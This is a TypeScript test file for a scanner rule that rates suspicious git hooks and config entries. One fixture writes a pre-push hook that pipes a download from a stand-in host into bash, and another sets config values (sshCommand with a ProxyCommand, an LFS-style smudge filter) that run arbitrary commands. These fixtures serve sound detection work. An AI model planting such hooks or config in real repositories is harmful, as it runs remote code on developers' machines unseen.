import assert from 'node:assert/strict';
import { copyFileSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { findingsOf } from '../../../../test/helpers/fixtures.ts';
import { tempDir } from '../../../../test/helpers/git-repo.ts';
import { describeRepoFixtures } from '../../../../test/helpers/repo-fixtures.ts';
import { scan } from '../../../index.ts';
import rule from './rule.ts';

describeRepoFixtures(rule, import.meta.url, { rules: [rule] });

const tmp = tempDir('shipped');
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

it("treats git's own samples as stock and a changed sample as a payload store", async () => {
  const dir = join(tmp, 'samples');
  mkdirSync(join(dir, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  const stock = '/usr/share/git-core/templates/hooks/pre-commit.sample';
  if (existsSync(stock)) copyFileSync(stock, join(dir, '.git', 'hooks', 'pre-commit.sample'));
  writeFileSync(join(dir, '.git', 'hooks', 'update.sample'), Buffer.alloc(40_000, 0x41));
  const report = await scan(dir, { rules: [rule] });
  const hits = findingsOf(report, rule.meta.id);
  assert.equal(hits.filter(f => f.location.file === '.git/hooks/pre-commit.sample').length, 0);
  const changed = hits.find(f => f.location.file === '.git/hooks/update.sample');
  assert.equal(changed?.severity, 'medium');
  assert.match(changed.evidence ?? '', /^sha256 [0-9a-f]{64}$/);
});

it('rates a live hook that pipes a download into a shell as critical, and names the config keys', async () => {
  const dir = join(tmp, 'live');
  mkdirSync(join(dir, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  writeFileSync(join(dir, '.git', 'hooks', 'pre-push'), '#!/bin/sh\ncurl -fsSL https://p.example.invalid/x | bash\n');
  writeFileSync(
    join(dir, '.git', 'config'),
    '[core]\n\tsshCommand = ssh -o ProxyCommand=./x\n[filter "lfs2"]\n\tsmudge = node .git/x.js\n',
  );
  const report = await scan(dir, { rules: [rule] });
  const hits = findingsOf(report, rule.meta.id);
  assert.equal(hits.find(f => f.location.file === '.git/hooks/pre-push')?.severity, 'critical');
  assert.ok(hits.some(f => f.message.includes('core.sshcommand')));
  assert.ok(hits.some(f => f.message.includes('filter.lfs2.smudge')));
});

it('rates the hooksPath husky sets as low', async () => {
  const dir = join(tmp, 'husky');
  mkdirSync(join(dir, '.git'), { recursive: true });
  writeFileSync(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  writeFileSync(join(dir, '.git', 'config'), '[core]\n\thooksPath = .husky/_\n');
  const report = await scan(dir, { rules: [rule] });
  assert.equal(findingsOf(report, rule.meta.id)[0]?.severity, 'low');
});
